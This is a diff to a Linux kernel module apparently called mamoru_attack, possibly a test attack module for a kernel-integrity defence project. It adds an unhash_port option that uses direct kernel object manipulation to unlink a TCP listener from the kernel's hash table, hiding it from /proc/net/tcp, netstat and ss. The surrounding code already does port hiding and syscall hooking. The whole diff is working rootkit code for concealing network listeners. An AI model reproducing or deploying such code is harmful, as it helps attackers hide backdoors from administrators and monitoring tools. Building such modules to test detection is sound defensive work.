@@ -39,6 +39,10 @@
  *                   private headers would: open the file, take the seq_operations its
  *                   seq_file got (the entry's seq_ops), then look for the pointer to the
  *                   entry just before the inode (struct proc_inode) and for that value in it
+ *   unhash_port=N   unlink the TCP listener on port N from the kernel's listening hash table
+ *                   (DKOM): /proc/net/tcp, netstat and ss lose it, and new connections to N
+ *                   are refused, while connections it accepted before go on. Unloading
+ *                   hashes it again. Needs TCP/IP (refused without CONFIG_INET)
  *
  * Architectures: arm64 (Debian's cloud kernels) and 32-bit ARM (the versatilepb guest's 6.1
  * kernel, ARMv5). vbar, inline_hook and kprobe_hook are arm64 only: elsewhere insmod fails
@@ -77,7 +81,9 @@
 #include <linux/slab.h>
 #include <linux/seq_file.h>
 #include <linux/uaccess.h>
+#include <net/inet_hashtables.h>
 #include <net/sock.h>
+#include <net/tcp.h>
 #include <linux/vmalloc.h>
 #include <linux/kprobes.h>
 #include <linux/percpu.h>
@@ -167,6 +173,10 @@ MODULE_PARM_DESC(kprobe_hook, "put a kprobe on __arm64_sys_getdents64");
 static int hide_port;
 module_param(hide_port, int, 0444);
 MODULE_PARM_DESC(hide_port, "TCP port to hide from /proc/net/tcp and tcp6 (0: none)");
+
+static int unhash_port;
+module_param(unhash_port, int, 0444);
+MODULE_PARM_DESC(unhash_port, "TCP port whose listener is unlinked from the hash table (0: none)");
 
 static atomic_long_t calls = ATOMIC_LONG_INIT(0);
 static atomic_t in_hook = ATOMIC_INIT(0);
@@ -1006,8 +1016,53 @@ static int hook_ports(void)
 	return err;
 }
 
+/* -- unhash_port: a listener taken out of tcp_hashinfo ---------------------------------- */
+
+#if IS_ENABLED(CONFIG_INET)
+static struct sock *unhashed;
+
+static int unhash_listener(void)
+{
+	struct sock *sk;
+
+	rcu_read_lock();
+	/* tcp_hashinfo itself is not exported on 6.12; init_net points at it (6.1+). */
+	sk = __inet_lookup_listener(&init_net, init_net.ipv4.tcp_death_row.hashinfo, NULL, 0, 0, 0,
+				    htonl(INADDR_LOOPBACK), unhash_port, 0, 0);
+	if (sk && !refcount_inc_not_zero(&sk->sk_refcnt))
+		sk = NULL;
+	rcu_read_unlock();
+	if (!sk) {
+		pr_err(PFX "unhash_port: no listener on port %d\n", unhash_port);
+		return -ENOENT;
+	}
+	inet_unhash(sk);
+	unhashed = sk;
+	pr_info(PFX "unhashed the listener on port %d\n", unhash_port);
+	return 0;
+}
+
+static void rehash_listener(void)
+{
+	if (!unhashed)
+		return;
+	inet_hash(unhashed);
+	sock_put(unhashed);
+	unhashed = NULL;
+}
+#else
+static int unhash_listener(void)
+{
+	pr_err(PFX "unhash_port: this kernel has no TCP/IP\n");
+	return -EOPNOTSUPP;
+}
+
+static void rehash_listener(void) { }
+#endif
+
 static void undo(void)
 {
+	rehash_listener();
 	unhook_ports();
 	text_undo();
 	restore_vectors();
@@ -1040,6 +1095,8 @@ static int __init mamoru_attack_init(void)
 		err = kprobe_attach();
 	if (!err && hide_port)
 		err = hook_ports();
+	if (!err && unhash_port)
+		err = unhash_listener();
 	if (err) {
 		undo();
 		return err;
